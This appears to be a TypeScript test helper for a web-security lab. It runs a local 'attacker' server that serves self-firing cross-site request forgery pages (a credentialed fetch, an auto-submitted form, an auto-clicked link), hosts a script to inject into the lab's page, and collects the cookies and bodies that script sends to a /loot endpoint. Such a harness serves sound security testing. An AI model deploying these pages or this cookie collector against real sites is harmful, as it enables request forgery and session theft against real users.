// The attacker's server on a port of its own: pages that attack whoever opens them, a script to inject into the lab's
// page, and a collector of what that script sends. It is 127.0.0.1, the lab's own site, and localhost, another one.
import { readFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { text } from 'node:stream/consumers';
import { until } from '../until.js';

export interface Loot {
  /** Of the request that brought it. */
  readonly cookie: string;
  readonly body: string;
}

export type Attacker = Awaited<ReturnType<typeof startAttacker>>;

/** Pages that send a request to the target by themselves as soon as they are opened. */
const pages = {
  fetch: (target: string) =>
    `<script>fetch('${target}', { method: 'POST', mode: 'no-cors', credentials: 'include' })</script>`,
  form: (target: string) =>
    `<form method="post" action="${target}"></form><script>document.forms[0].submit()</script>`,
  link: (target: string) => `<a href="${target}">A prize!</a><script>document.links[0].click()</script>`,
};

export async function startAttacker() {
  const script = await readFile(new URL('injected.js', import.meta.url));
  const loot: Loot[] = [];
  const server = createServer(async (request, response) => {
    const { pathname, searchParams } = new URL(request.url ?? '/', 'http://attacker');
    const target = searchParams.get('target');
    if (pathname === '/loot') {
      loot.push({ cookie: request.headers.cookie ?? '', body: await text(request) });
      response.end();
    } else if (pathname === '/injected.js') {
      response.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' });
      response.end(script);
    } else {
      const page = Object.entries(pages).find(([name]) => pathname === `/${name}`)?.[1];
      response.writeHead(page ? 200 : 404, { 'content-type': 'text/html' });
      response.end(page && target ? page(target) : '');
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    /** Where the lab's site is too. */
    sameSite: `http://127.0.0.1:${port}`,
    otherSite: `http://localhost:${port}`,
    /** All that has been brought, once there is so much of it. */
    async collect(count: number): Promise<readonly Loot[]> {
      await until(() => loot.length >= count);
      return loot.splice(0);
    },
    stop: () => new Promise((resolve) => server.close(resolve).closeAllConnections()),
  };
}
